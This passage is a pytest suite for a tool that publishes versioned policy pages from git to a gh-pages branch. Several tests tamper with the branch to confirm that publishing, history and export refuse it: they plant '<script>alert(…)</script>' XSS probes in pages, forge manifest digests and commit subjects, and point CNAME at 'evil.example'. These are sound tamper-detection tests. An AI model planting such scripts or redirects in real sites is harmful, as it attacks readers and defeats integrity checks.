    report = verify.verify(root=project.root)
    assert report.problems == [] and report.rebuilt == 2, report.notes
    source = mf.VersionManifest.loads(project.show("manifest/2024-01-15.json")).languages["fr"].source
    assert source.path == "docs/fr/index.md"
    git(project.root, "branch", "-q", "-D", "gh-pages")
    assert project.history().published == ["2024-01-15", "2024-02-01"]  # a fresh branch: none is left behind
    assert verify.verify(root=project.root).problems == []
    assert "Deuxième texte." in project.show("fr/2024-02-01/index.html")


def test_another_mkdocs_sites_configuration_is_not_read_again_at_each_of_its_commits(project, monkeypatch):
    """A repository holding another MkDocs site (a handbook's handbook/mkdocs.yml, edited daily): each of its commits
    had the history read the project's configuration again to follow a move of the pages (histories3: find_versions
    took 11 s for 1,000 of them against 0.2 s without, on two cores at load 13). Only the project's own is read."""
    from policysite import history as hist, source
    from policysite.project import opened

    project.commit("2024-01-15")
    (project.root / "handbook").mkdir()
    for n in range(5):
        (project.root / "handbook" / "mkdocs.yml").write_text(f"site_name: Handbook {n}\n", encoding="utf-8")
        project.commit_all(f"handbook {n}")
    (project.root / "mkdocs.en.yml").write_text((project.root / "mkdocs.en.yml").read_text(encoding="utf-8")
                                                 + "# reviewed\n", encoding="utf-8")
    own = project.commit_all("our configuration")
    project.commit("2024-02-01", fr="Deuxième texte.", en="Second text.")
    read: list[str] = []
    configuration = source.configuration
    with opened(project.root) as site:
        monkeypatch.setattr(source, "configuration", lambda repo, **kw: (read.append(kw["commit"]), configuration(
            repo, **kw))[1])
        found = hist.find_versions(site.repo, root=site.root, settings=site.settings, paths=site.paths)
    assert [v.version for v in found.versions] == ["2024-01-15", "2024-02-01"] and found.warnings == []
    assert read == [git(project.root, "rev-parse", f"{own}^").strip()]  # the configuration before its own change


def test_a_page_renamed_into_place_is_followed_back_to_its_first_name(project):
    """politique.md at the top, then renamed docs/fr/index.md (a new site adopting its own history): the versions
    before the rename are found, each with where its page was; the snapshot reads it from there."""
    from policysite import history as hist
    from policysite.project import opened

    project.write("2024-01-15")
    (project.root / "docs" / "fr" / "index.md").rename(project.root / "politique.md")
    project.commit_all("the policy, at the top")
    git(project.root, "mv", "politique.md", "docs/fr/index.md")
    project.commit_all("the policy, where the site reads it")
    project.commit("2024-02-01", fr="Deuxième texte.", en="Second text.")
    with opened(project.root) as site:
        found = hist.find_versions(site.repo, root=site.root, settings=site.settings, paths=site.paths)
        assert [(v.version, v.paths) for v in found.versions] == [("2024-01-15", {}), ("2024-02-01", {})]
        # the rename commit itself carries 2024-01-15 at today's path: the version's last commit
        first = found.versions[0]
        assert first.commit == git(project.root, "rev-parse", "HEAD~1").strip()
        found = hist.find_versions(site.repo, root=site.root, settings=site.settings, paths=site.paths,
                                   skip=frozenset({first.commit}))
        assert [(v.version, v.paths) for v in found.versions] == [("2024-01-15", {"fr": "politique.md"}),
                                                                  ("2024-02-01", {})]
        snap = site.snapshot(found.versions[0].commit, project.root.parent / "snap", at=found.versions[0].paths)
        assert b"date: 2024-01-15" in snap.sources["fr"] and snap.blocking == []


def test_a_move_git_does_not_see_as_one_is_followed_by_the_configuration_before_it(project, monkeypatch):
    """docs/ moved to content/ and rewritten in the same commit (git sees an add), with a draft git would pair with
    the moved page: the page before is the one the previous commit's configuration read. Read from the configuration
    files alone (history hunt 40: the theme and hooks written and held to the rules too took 0.14 s a commit changing
    the configuration, 21 s at 150 of them, at each reading of the history)."""
    from policysite import history as hist, source
    from policysite.project import opened

    def no_theme(*args, **kwargs):
        raise AssertionError("the theme is no part of where the pages were")

    project.commit("2024-01-15")
    (project.root / "drafts").mkdir()
    shutil.copytree(project.root / "docs" / "fr", project.root / "drafts" / "fr")
    project.commit_all("a draft beside the policy")
    move_docs(project)
    git(project.root, "rm", "-q", "-r", "drafts")
    for lang in ("fr", "en"):
        page = project.root / "content" / lang / "index.md"
        page.write_text(page.read_text(encoding="utf-8").replace("2024-01-15", "2024-03-01") + "\n" + "\n\n".join(
            f"Paragraph {n} added by the move." for n in range(40)) + "\n", encoding="utf-8")
    project.commit_all("moved and rewritten")
    with opened(project.root) as site:
        monkeypatch.setattr(source, "theme", no_theme)
        found = hist.find_versions(site.repo, root=site.root, settings=site.settings, paths=site.paths)
    assert [(v.version, v.paths.get("fr")) for v in found.versions] == [("2024-01-15", "docs/fr/index.md"),
                                                                        ("2024-03-01", None)]


def test_run_from_a_subfolder_finds_its_project_and_a_missing_source_commit_is_named(project, tmp_path):
    project.commit("2024-01-15")
    assert project.history().published == ["2024-01-15"]
    published = git(project.root, "rev-parse", "--short=7", "HEAD").strip()
    result = policy_process(["verify"], cwd=project.root / "docs" / "fr",
                            env={**os.environ, "GIT_CONFIG_GLOBAL": os.devnull})
    assert result.returncode == 0 and "match the publication record" in result.stdout, result.stdout + result.stderr
    git(project.root, "commit", "-q", "--amend", "-m", "policy 2024-01-15, reworded")

    def diffed(name: str) -> subprocess.CompletedProcess[str]:
        clone = tmp_path / name
        git(tmp_path, "clone", "-q", "--no-local", str(project.root), str(clone))
        git(clone, "fetch", "-q", "origin", "gh-pages:gh-pages")
        return policy_process(["--root", str(clone), "diff", "latest", "worktree", "--lang", "fr"],
                              env={**os.environ, "GIT_CONFIG_GLOBAL": os.devnull})

    # only the message amended: the published text is found in the clone by the digest its publication record holds
    result = diffed("reworded")
    assert result.returncode == 0 and "latest and worktree have the same French text" in result.stderr, result.stderr
    page = project.root / "docs" / "fr" / "index.md"  # the text amended too: it is nowhere in a clone
    page.write_text(page.read_text(encoding="utf-8") + "\nUne phrase ajoutée.\n", encoding="utf-8")
    git(project.root, "commit", "-q", "--amend", "-a", "-m", "policy 2024-01-15, rewritten")
    result = diffed("rewritten")
    # (a full clone: to fetch the commit from a clone that has it, not `git fetch --unshallow`, histories27)
    assert result.returncode != 0 and (f"published 2024-01-15 was built from commit {published}, which this "
                                       "repository, a full clone, does not hold") in result.stderr, result.stderr


def test_a_branch_moved_by_someone_else_is_not_overwritten(published, monkeypatch):
    project = published  # 2021-02-17 committed and published
    project.commit("2022-03-01", fr="Deuxième texte.", en="Second text.")
    real_build = publish.build_version

    def build_while_someone_commits(*args, **kwargs):
        other = git(project.root, "commit-tree", "-p", "gh-pages", "-m", "someone else",
                    project.tree("", "gh-pages")).strip()
        git(project.root, "update-ref", "refs/heads/gh-pages", other)
        return real_build(*args, **kwargs)

    monkeypatch.setattr(publish, "build_version", build_while_someone_commits)
    with pytest.raises(publish.PublishError, match="gh-pages moved while publishing"):
        project.publish()
    assert git(project.root, "log", "-1", "--format=%s", "gh-pages").strip() == "someone else"


def test_two_publishes_at_once_one_waits_and_the_branch_is_sound(project):
    project.commit("2021-02-17")
    runs = policy_processes([["--root", str(project.root), "publish"]] * 2)  # two processes at once
    results = [(run.returncode, run.stdout, run.stderr) for run in runs]
    assert [code for code, _, _ in results] == [0, 0], results
    outputs = sorted(out for _, out, _ in results)
    assert outputs[0].startswith("nothing to publish: 2021-02-17 is already on gh-pages with this text")
    assert outputs[1].startswith("published 2021-02-17 (fr, en) on gh-pages")
    assert git(project.root, "rev-list", "--count", "gh-pages").strip() == "1"
    assert verify.verify(root=project.root).problems == []


def test_push_to_a_remote_and_publish_from_a_fresh_clone(pushed, tmp_path):
    project, result = pushed  # 2021-02-17 committed, main pushed to remote.git, then `policy publish --push`
    remote = tmp_path / "remote.git"
    assert result.returncode == 0, result.stderr
    assert "pushed gh-pages to origin" in result.stdout
    assert git(remote, "rev-parse", "gh-pages").strip() == project.branch()

    clone = Project(tmp_path / "clone")
    git(tmp_path, "clone", "-q", str(remote), str(clone.root))
    assert clone.branch() is None  # a fresh clone has origin/gh-pages only
    assert "nothing to publish" in clone.history().messages[0]
    assert clone.branch() == git(remote, "rev-parse", "gh-pages").strip()  # `make build` can export it
    exported = export_site.export(root=clone.root, site_dir=tmp_path / "public")
    assert (exported / "fr" / "2021-02-17" / "index.html").exists()
    clone.commit("2022-03-01", fr="Deuxième texte.", en="Second text.")
    assert clone.publish(push=True).published == ["2022-03-01"]
    assert git(remote, "log", "--format=%s", "gh-pages").splitlines()[1].startswith("Publish 2021-02-17")
    # The first clone's local gh-pages is now behind: its push catches up rather than failing at every run
    # (history hunt 9: f_stale_local_push).
    git(project.root, "pull", "-q", "origin", "main")
    result = project.run("publish", "--push")
    assert result.returncode == 0 and "the local gh-pages was behind origin/gh-pages: brought up to it" in \
        result.stdout, result.stdout + result.stderr
    assert project.branch() == git(remote, "rev-parse", "gh-pages").strip()


def test_an_auditors_fresh_clone_reads_origins_archive_without_publishing_anything(pushed, tmp_path):
    """History hunt 13, f_low_fresh_clone_readers: in a fresh clone (origin/gh-pages, no local gh-pages) verify, at,
    diff and export said there was nothing and advised publishing from the auditor's clone."""
    project, result = pushed  # 2021-02-17 committed, main pushed to remote.git, then `policy publish --push`
    remote = tmp_path / "remote.git"
    assert result.returncode == 0
    clone = Project(tmp_path / "clone")
    git(tmp_path, "clone", "-q", str(remote), str(clone.root))
    checked = clone.run("verify")
    assert checked.returncode == 0 and "origin/gh-pages is verified (there is no local gh-pages)" in checked.stderr, \
        checked.stdout + checked.stderr
    found = clone.run("at", "2022-01-01")
    assert found.returncode == 0 and "2021-02-17" in found.stdout, found.stdout + found.stderr
    compared = clone.run("diff", "latest", "worktree", "--lang", "fr")
    assert compared.returncode == 0, compared.stdout + compared.stderr
    assert clone.run("export", "--site-dir", str(tmp_path / "public")).returncode == 0
    assert (tmp_path / "public" / "fr" / "2021-02-17" / "index.html").is_file()
    assert clone.branch() is None  # nothing written: a reader only read
    named = clone.run("verify", "-b", "origin/gh-pages")  # the remote's copy, named
    assert named.returncode == 0 and "origin/gh-pages is verified" in named.stderr, named.stdout + named.stderr
    assert clone.run("at", "2022-01-01", "-b", "origin/gh-pages").stdout.startswith("2021-02-17 ")
    bare = Project(tmp_path / "bare")
    git(tmp_path, "clone", "-q", "--single-branch", "-b", "main", str(remote), str(bare.root))
    refused = bare.run("verify")
    assert refused.returncode != 0 and "there is no gh-pages branch here, nor origin/gh-pages: this clone fetches " \
        "other branches of origin only (made with --single-branch)" in refused.stderr, refused.stderr  # (histories29)
    named = bare.run("verify", "-b", "origin/gh-pages")  # the remote's copy named: not "origin/origin/gh-pages" (31)
    assert named.returncode != 0 and "there is no origin/gh-pages here: fetch the archive (`git fetch origin " \
        "gh-pages`)" in named.stderr, named.stderr


@pytest.mark.parametrize("url", ["'http://127.0.0.1:8000/'", "http://[::1]:8000/", "http://0.0.0.0:8000/"])
def test_nothing_is_pushed_while_the_sites_address_is_this_machines(project, url):
    """Safety hunt 35: the project's Makefile guarded `make publish` with a pattern `'http://127.0.0.1:8000/'` (single
    quotes), `[::1]` or `0.0.0.0` passed: every version pushed named that address for good. Published locally (`make
    serve`), it may be."""
    config = project.root / "mkdocs.yml"
    config.write_text(re.sub(r"(?m)^(    public_url: ).*$", lambda m: m.group(1) + url, config.read_text(
        encoding="utf-8"), count=1), encoding="utf-8")
    project.commit("2021-02-17")
    for run in (publish.publish, publish.publish_history):
        with pytest.raises(publish.PublishError, match="an address of this machine: every version pushed"):
            run(root=project.root, push=True)
    assert project.branch() is None


@pytest.mark.parametrize("added", ["evil.html", "en/2021-02-17/extra.html", "en/2021-02-17/sub/page.svg",
                                   "en/2020-01-01/index.html", "manifest/evil.html", "assets/{theme}/evil.js"])
def test_a_file_added_on_the_branch_by_hand_is_not_carried_onto_the_site_by_the_next_publication(published, added):
    """Safety hunt 46, finding 2: a page with a script committed on gh-pages by hand (at its root, in a version's
    folder, beside the manifests or the shared theme) was carried onto the site by the next `policy publish` (a push
    to main publishes without `policy verify`) and `policy history`, exit 0, without a word. Refused now, naming it,
    the branch left as it was; once the file is removed, the version is published."""
    project = published
    theme = json.loads(project.show("manifest/2021-02-17.json"))["languages"]["fr"]["theme"]
    path = added.format(theme=theme)
    commit_on_branch(project, {path: "<script>alert(1)</script>\n"}, "Edit by hand")
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    before = project.branch()
    for command in (("publish",), ("history",)):
        result = project.run(*command)
        assert result.returncode == 1, result.stdout + result.stderr
        assert f"error: {path}: on the branch, and written by no publication" in result.stderr, result.stderr
        assert "Nothing was published." in result.stderr and "Traceback" not in result.stderr
        assert project.branch() == before
    commit_on_branch(project, {path: None}, "Edit by hand")
    result = project.run("publish")
    assert result.returncode == 0, result.stdout + result.stderr
    assert path not in project.files() and "en/2022-03-01/index.html" in project.files()


def test_a_file_added_on_the_branch_by_hand_is_refused_before_the_version_is_built(published, monkeypatch):
    """Suite11, session 39: `policy publish` built the new version and the archive's pages (some 1 s of CPU) before it
    read the branch and refused its hand-added file; `policy history` refused it first. Now publish does too: nothing
    built, the same refusal."""
    project = published
    commit_on_branch(project, {"evil.html": "<script>alert(1)</script>\n"}, "Edit by hand")
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    before = project.branch()
    built = calls_to(monkeypatch, publish, "build_version")
    archived = calls_to(monkeypatch, publish, "build_archive")
    with pytest.raises(publish.PublishError, match="evil.html: on the branch, and written by no publication"):
        project.publish()
    assert built == [] and archived == [] and project.branch() == before


def test_a_page_added_to_the_shared_theme_folder_with_its_line_in_the_folders_list_is_not_carried(published):
    """Safety hunt 47: a page with a script put by hand into assets/<theme>/ (served on the site's own address), with
    its line added to manifest/assets/<theme>.json, was carried onto the site by the next `policy publish`, exit 0 (the
    list was taken at its word; only verify named it). The folder is named after the digest of its list: a list that
    does not give its name is refused, the branch left as it was."""
    project = published
    theme = json.loads(project.show("manifest/2021-02-17.json"))["languages"]["fr"]["theme"]
    page = b"<!doctype html><script>alert(document.domain)</script>"

    def add(work):
        (work / f"assets/{theme}/evil.html").write_bytes(page)
        listed = work / f"manifest/assets/{theme}.json"
        files = json.loads(listed.read_text(encoding="utf-8"))["files"]
        listed.write_text(json.dumps({"files": {**files, "evil.html": mf.sha256(page)}}, indent=1, sort_keys=True)
                          + "\n", encoding="utf-8")

    _on_branch(project, add)
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    before = project.branch()
    result = project.run("publish")
    assert result.returncode == 1, result.stdout + result.stderr
    assert (f"error: manifest/assets/{theme}.json (lists other files than the folder assets/{theme}/ is named after: "
            "edited by hand)") in result.stderr, result.stderr
    assert "Nothing was published." in result.stderr and project.branch() == before

def _on_branch(project: Project, edit, subject: str = "Edit by hand") -> None:
    """`edit(folder)` made in a worktree of gh-pages and committed there by hand (with `subject`), the worktree then
    removed."""
    work = project.root.parent / "edit"
    git(project.root, "worktree", "add", "-q", str(work), "gh-pages")
    edit(work)
    git(work, "add", "-A")
    git(work, "commit", "-q", "-m", subject)
    git(project.root, "worktree", "remove", "--force", str(work))


@pytest.mark.parametrize("edit", ["edited", "deleted", "edited with the history page"])
def test_a_file_of_an_older_version_edited_on_the_branch_by_hand_is_not_carried_by_the_next_publication(
        both_published, edit):
    """Safety hunt 47, leftover of hunt 46: a file its manifest lists, edited by hand in the folder of a version no
    longer in force (a script put in its page), was carried onto the site by the next `policy publish` and `policy
    history`, exit 0, without a word (only the version in force was read, for its copy into latest/; `policy verify`
    named it). Refused now, naming the file, the branch left as it was; once the edit is reverted, the version is
    published."""
    project = both_published
    path = "en/2021-02-17/index.html"

    def hand_edit(work):
        if edit == "deleted":
            git(work, "rm", "-q", path)
            return
        page = (work / path).read_text(encoding="utf-8")
        (work / path).write_text(page.replace("</body>", "<script>alert(1)</script></body>"), encoding="utf-8")
        if edit == "edited with the history page":
            history = work / "fr/history/index.html"
            history.write_text(history.read_text(encoding="utf-8") + "\n", encoding="utf-8")

    _on_branch(project, hand_edit)
    edited = project.branch()
    project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
    for command in (("publish",), ("history",)):
        result = project.run(*command)
        assert result.returncode == 1, result.stdout + result.stderr
        assert f"error: {path}: " in result.stderr and "not as published" in result.stderr, result.stderr
        assert "Nothing was published." in result.stderr and "Traceback" not in result.stderr
        assert project.branch() == edited
    _on_branch(project, lambda work: git(work, "checkout", "-q", "HEAD~1", "--", "."))
    result = project.run("publish")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "<script>alert(1)</script>" not in project.show(path)
    assert "en/2023-01-01/index.html" in project.files()


def _script_with_its_digest(work, path: str, manifest: str | None) -> None:
    """A script put into the English page `path` on the branch checked out at `work`, and its new digest into
    `manifest` if given."""
    page = (work / path).read_text(encoding="utf-8").replace("</body>", "<script>alert(1)</script></body>")
    (work / path).write_text(page, encoding="utf-8")
    if manifest is not None:
        recorded = json.loads((work / manifest).read_text(encoding="utf-8"))
        recorded["languages"]["en"]["files"]["index.html"] = mf.sha256(page.encode("utf-8"))
        (work / manifest).write_bytes(mf.VersionManifest.loads(json.dumps(recorded)).dumps())


@pytest.mark.parametrize("edit", ["with its manifest's digest", "then the history page in a second commit"])
def test_an_older_versions_page_edited_by_hand_with_its_manifest_or_in_two_commits_is_not_carried(both_published,
                                                                                                   edit):
    """Safety hunt 48: a script put into en/2021-02-17/index.html by a hand commit that also set that page's digest in
    manifest/2021-02-17.json, or by a hand commit followed by a second one editing the history page (the files changed
    since the parent of the newest commit writing that page were read: the first commit's were never), was carried by
    the next `policy publish` and `policy history`, exit 0, without a word (only `policy verify`'s rebuild named it).
    Refused now, naming the manifest and the hand commit, or the page; the branch left as it was; once reverted, the
    next version is published."""
    project = both_published
    path, manifest = "en/2021-02-17/index.html", "manifest/2021-02-17.json"

    def hand_edit(work):
        _script_with_its_digest(work, path, manifest if edit == "with its manifest's digest" else None)

    _on_branch(project, hand_edit)
    if edit == "then the history page in a second commit":
        _on_branch(project, lambda work: (work / "fr/history/index.html").write_text(
            (work / "fr/history/index.html").read_text(encoding="utf-8") + "\n", encoding="utf-8"))
    edited = project.branch()
    project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
    named = f"error: {manifest}: written by commit " if edit == "with its manifest's digest" else f"error: {path}: "
    for command in (("publish",), ("history",)):
        result = project.run(*command)
        assert result.returncode == 1, result.stdout + result.stderr
        assert named in result.stderr and "not as published" in result.stderr, result.stderr
        assert "Nothing was published." in result.stderr and "Traceback" not in result.stderr
        assert project.branch() == edited
    back = "HEAD~1" if edit == "with its manifest's digest" else "HEAD~2"
    _on_branch(project, lambda work: git(work, "checkout", "-q", back, "--", "."))
    result = project.run("publish")
    assert result.returncode == 0, result.stdout + result.stderr
    assert "<script>alert(1)</script>" not in project.show(path)
    assert "en/2023-01-01/index.html" in project.files()


@pytest.mark.parametrize("subject", ["Publish 2021-02-17 (en, fr) from 0123456789ab",
                                     "Rebuild 2021-02-17 (en, fr) from 0123456789ab"])
def test_a_hand_commit_given_publishings_subject_does_not_carry_an_older_versions_page(both_published, tmp_path,
                                                                                       subject):
    """Safety hunt 49: a script put into en/2021-02-17/index.html with that page's digest set in its manifest, by a
    hand commit whose subject is publishing's, was carried by `policy publish`, `policy history` and `policy export`,
    exit 0 (the subject alone was trusted; only `policy verify`'s rebuild named it). Named as the version's own
    publication ('Publish 2021-02-17 (…', which adds its manifest once and never changes it), the manifest and the
    commit are named; named as its rebuild ('Rebuild 2021-02-17 (…', which does rewrite both), the page is, by the
    output check. Nothing written."""
    project = both_published
    path, manifest = "en/2021-02-17/index.html", "manifest/2021-02-17.json"

    _on_branch(project, lambda work: _script_with_its_digest(work, path, manifest), subject)
    edited = project.branch()
    project.commit("2023-01-01", fr="Texte trois.", en="Text three.")
    for command in (("publish",), ("history",), ("export", "--site-dir", str(tmp_path / "public"))):
        result = project.run(*command)
        assert result.returncode == 1, result.stdout + result.stderr
        named = f"error: {manifest}: written by commit " if subject.startswith("Publish") else \
            f"error: {path}: refused by the output check: <script>"
        assert named in result.stderr and (subject.startswith("Rebuild") or subject[:20] in result.stderr), \
            result.stderr
        assert "Traceback" not in result.stderr and project.branch() == edited
    assert not (tmp_path / "public").exists()


def _shared_script(work) -> str:
    """A script of the shared theme folder on the branch checked out at `work`."""
    return next(str(path.relative_to(work)) for path in sorted((work / "assets").glob("*/javascripts/*.js")))


@pytest.mark.parametrize("edit", ["an older version's page", "its page and its manifest", "latest/",
                                  "the history page", "a language's script", "a shared theme script"])
def test_export_refuses_a_branch_edited_by_hand_and_leaves_the_folder_as_it_was(two_published, two_exported, tmp_path,
                                                                                edit):
    """Safety hunt 48: `policy export` copied gh-pages as it was, a script put into a page by a hand commit included
    (publish and history refuse such a branch, naming the file; only `policy verify` read it for export). Refused now
    with an `error:` line naming the file, the previous export left as it was; once the edit is reverted, exported."""
    project = copy_of(two_published, tmp_path / "project")
    public = tmp_path / "public"
    shutil.copytree(two_exported, public, symlinks=True)  # the previous export, of the branch before the edit
    before = {path: path.read_bytes() for path in public.rglob("*") if path.is_file()}
    named: list[str] = []

    def hand_edit(work):
        path = {"an older version's page": "en/2021-02-17/index.html", "its page and its manifest":
                "en/2021-02-17/index.html", "latest/": "fr/latest/index.html", "the history page":
                "fr/history/index.html", "a language's script": "en/assets/javascripts/policy.js",
                "a shared theme script": _shared_script(work)}[edit]
        named.append(path)
        data = (work / path).read_text(encoding="utf-8")
        data = data.replace("</body>", "<script>alert(1)</script></body>") if path.endswith(".html") \
            else data + "\nalert(1);\n"
        (work / path).write_text(data, encoding="utf-8")
        if edit == "its page and its manifest":
            manifest = work / "manifest/2021-02-17.json"
            recorded = json.loads(manifest.read_text(encoding="utf-8"))
            recorded["languages"]["en"]["files"]["index.html"] = mf.sha256(data.encode("utf-8"))
            manifest.write_bytes(mf.VersionManifest.loads(json.dumps(recorded)).dumps())
            named[0] = "manifest/2021-02-17.json"

    _on_branch(project, hand_edit)
    result = project.run("export", "--site-dir", str(public))
    assert result.returncode == 1, result.stdout + result.stderr
    assert result.stderr.startswith(f"error: {named[0]}: "), result.stderr
    assert "Traceback" not in result.stderr
    assert {path: path.read_bytes() for path in public.rglob("*") if path.is_file()} == before
    _on_branch(project, lambda work: git(work, "checkout", "-q", "HEAD~1", "--", "."))
    result = project.run("export", "--site-dir", str(public))
    assert result.returncode == 0, result.stdout + result.stderr
    marker = public / export_site.EXPORT_MARKER
    assert {path: path.read_bytes() for path in public.rglob("*") if path.is_file() and path != marker} == {
        path: data for path, data in before.items() if path != marker}


def test_a_cname_naming_another_host_is_not_carried_by_publish_or_export(published, tmp_path):
    """Safety hunt 48: CNAME, GitHub Pages' custom domain, was carried by every publication and export whatever host it
    named: edited by hand to evil.example, GitHub would send every reader of the site's github.io address there (only
    `policy verify` named it). Now publish refuses it, naming the file, the branch left as it was, and export writes
    nothing; a CNAME naming public_url's host (GitHub's settings page commits one) is carried as before."""
    from urllib.parse import urlsplit

    from policysite import settings as policy_settings

    project = published
    host = urlsplit(policy_settings.load(project.root).public_url).hostname
    commit_on_branch(project, {"CNAME": "evil.example\n"}, "Edit by hand")
    edited = project.branch()
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    for command in (("publish",), ("export", "--site-dir", str(tmp_path / "public"))):
        result = project.run(*command)
        assert result.returncode == 1, result.stdout + result.stderr
        assert result.stderr.startswith("error: CNAME (names 'evil.example', not "), result.stderr
        assert "Traceback" not in result.stderr and project.branch() == edited
    assert not (tmp_path / "public").exists()
    commit_on_branch(project, {"CNAME": f"{host}\n"}, "Edit by hand")
    result = project.run("publish")
    assert result.returncode == 0, result.stdout + result.stderr
    assert project.show("CNAME") == f"{host}\n" and "en/2022-03-01/index.html" in project.files()
    assert project.run("export", "--site-dir", str(tmp_path / "public")).returncode == 0
    assert (tmp_path / "public" / "CNAME").read_text(encoding="utf-8") == f"{host}\n"



def test_a_nojekyll_file_holding_words_is_not_carried_by_publish_or_export(published, tmp_path):
    """Safety8, session 37: .nojekyll, which publishing writes empty (it tells GitHub Pages not to run Jekyll), was
    carried and exported whatever it held (`carried` let the name pass): given a page's markup in a commit named as
    publishing's, `policy export` wrote it into the folder served. Both commands refuse now, naming it."""
    project = published
    commit_on_branch(project, {".nojekyll": "<script>alert(1)</script>"},
                     "Update the history, compare and feed pages of 1 dated version")
    edited = project.branch()
    project.commit("2022-03-01", fr="Texte deux.", en="Text two.")
    for command in (("export", "--site-dir", str(tmp_path / "public")), ("publish",)):
        result = project.run(*command)
        assert result.returncode == 1, result.stdout + result.stderr
        assert result.stderr.startswith("error: .nojekyll (holds words: publishing writes it empty"), result.stderr
        assert "Traceback" not in result.stderr and project.branch() == edited
    assert not (tmp_path / "public").exists()


def test_a_commit_that_removed_the_policy_is_said_removed_not_undated(project):
    """History 28: the policy removed from main, then committed again with a new date: `policy history` warned that the
    removing commit's "docs/fr/index.md has no date that can be read (date: YYYY-MM-DD)", advice for a page that was
    not there. It is said removed; a page whose date cannot be read is said as before."""
    from policysite import history as hist
    from policysite.project import opened

    project.commit("2024-01-15")
    for lang in ("fr", "en"):
        (project.root / "docs" / lang / "index.md").unlink()
    removed = project.commit_all("the policy removed")
    project.commit("2024-02-30", fr="Deuxième texte.", en="Second text.")
    undated = git(project.root, "rev-parse", "HEAD").strip()
    project.commit("2024-03-01", fr="Deuxième texte.", en="Second text.")
    with opened(project.root) as site:
        found = hist.find_versions(site.repo, root=site.root, settings=site.settings, paths=site.paths)
    assert [v.version for v in found.versions] == ["2024-01-15", "2024-03-01"]
    # (both said once, by the publication of the version after them, newest first: leads43b, histories14)
    assert found.warnings == [] and found.said_by_publishing(["2024-01-15"]) == []
    said = found.said_by_publishing(["2024-03-01"])
    assert said == [
        f"{undated[:7]}: docs/fr/index.md has no date that can be read (date: YYYY-MM-DD), so its text is no version",
        f"{removed[:7]}: docs/fr/index.md removed, so it is no version: the site keeps the version before it in force "
        "until the next"]
    from policysite import messages  # and in French, where the legal team reads French

    assert [messages.said_in(line, "fr") for line in said[1:]] == [
        f"{removed[:7]}\u00a0: docs/fr/index.md supprimé, ce n'est donc pas une version\u00a0: le site garde en vigueur la version "
        "précédente jusqu'à la suivante"]


def _scanned(project: Project, versions: list[str], english: str, french: str) -> None:
    """The project's history as the scan reads it: these versions' dates, and one note, `english`, said `french` in
    French, by the publication of the last version alone, not at every `policy history` (histories14)."""
    from policysite import history as hist
    from policysite.project import opened

    with opened(project.root) as site:
        found = hist.find_versions(site.repo, root=site.root, settings=site.settings, paths=site.paths)
    said = found.said_by_publishing(versions)
    assert [v.version for v in found.versions] == versions and said == [english], (found.warnings, said)
    assert found.warnings == [] and found.said_by_publishing(versions[:-1]) == []
    assert messages.said_in(said[0], "fr") == french


def test_a_commit_that_put_the_policy_into_git_lfs_is_said_so_not_undated(project):
    """Histories3: a commit storing the page as a Git LFS pointer (a `*.md filter=lfs` line added to .gitattributes)
    between two versions was said to have "no date that can be read (date: YYYY-MM-DD)", its text looking fine in
    every checkout with git-lfs. It is said a pointer, and how to take the policy out of LFS."""
    project.commit("2024-01-15")
    page = project.root / "docs" / "fr" / "index.md"
    text = page.read_bytes()
    page.write_text(f"version https://git-lfs.github.com/spec/v1\noid sha256:{mf.sha256(text)}\nsize {len(text)}\n",
                    encoding="utf-8")
    (project.root / ".gitattributes").write_text("*.md filter=lfs diff=lfs merge=lfs -text\n", encoding="utf-8")
    pointer = project.commit_all("the policy into LFS")
    project.commit("2024-03-01", fr="Deuxième texte.", en="Second text.")
    _scanned(
        project, ["2024-01-15", "2024-03-01"],
        f"{pointer[:7]}: docs/fr/index.md a Git LFS pointer, not the text (a `filter=lfs` line of .gitattributes: git "
        "keeps the text outside the repository), so it is no version: the site keeps the version before it in force "
        "until the next; take the policy out of LFS (`git lfs untrack`, `git add --renormalize docs`)",
        f"{pointer[:7]}\u00a0: docs/fr/index.md devenu un pointeur Git LFS, non le texte (une ligne `filter=lfs` du fichier "
        ".gitattributes\u00a0: git conserve le texte hors du dépôt), ce n'est donc pas une version\u00a0: le site garde en "
        "vigueur la version précédente jusqu'à la suivante\u202f; sortez la politique de LFS (`git lfs untrack`, `git add "
        "--renormalize docs`)")


def test_a_translation_dated_before_its_authoritative_text_existed_is_said_not_silently_left_out(project):
    """Histories3: a site in English first, its French written later and made the reference: the English text dated
    2021-02-17, committed before any French page, was left out of the archive without a word (a commit without the
    authoritative page, before the first version, was taken for an undated draft). It is said, once a date."""
    project.write("2021-02-17")
    (project.root / "docs" / "fr" / "index.md").unlink()
    project.commit_all("the English policy")
    project.write("2021-02-17", en="We process your data with great care.")
    (project.root / "docs" / "fr" / "index.md").unlink()
    alone = project.commit_all("the English policy reworded")
    project.commit("2022-03-01", fr="Deuxième texte.", en="Second text.")
    _scanned(
        project, ["2022-03-01"],
        f"{alone[:7]}: docs/en/index.md dated 2021-02-17, but docs/fr/index.md, the authoritative text, is not there "
        "yet: a version needs it, so this text is no version, and the archive starts with the first version that has "
        "it (2022-03-01)",
        f"{alone[:7]}\u00a0: docs/en/index.md daté du 2021-02-17, mais docs/fr/index.md, le texte de référence, n'existe pas "
        "encore\u00a0: une version en a besoin, ce texte n'est donc pas une version, et l'archive commence à la première "
        "version qui l'a (2022-03-01)")


@pytest.mark.parametrize("kind", ["link", "linked folder", "LFS pointer"])
def test_a_policy_committed_only_in_a_form_publishing_cannot_read_is_refused_by_history_naming_it(project, kind):
    """Histories3: the policy committed as a symbolic link to its text elsewhere (or its folder so), or as Git LFS
    pointers, from its first commit on: `policy history` said "nothing to publish: no commit holds a dated
    docs/fr/index.md yet: write it (its `date:` first) and commit it", exit 0, a daily CI green while nothing was
    ever published. It refuses, naming the file (or folder) and the commit, as `policy publish` does; both say an LFS
    pointer is one."""
    project.write("2024-01-15")
    elsewhere = project.root / "legal"
    elsewhere.mkdir()
    for lang in ("fr", "en"):
        page = project.root / "docs" / lang / "index.md"
        if kind == "link":
            page.rename(elsewhere / f"{lang}.md")
            page.symlink_to(f"../../legal/{lang}.md")
        elif kind == "linked folder":
            page.parent.rename(elsewhere / lang)
            page.parent.symlink_to(f"../legal/{lang}")
        else:
            text = page.read_bytes()
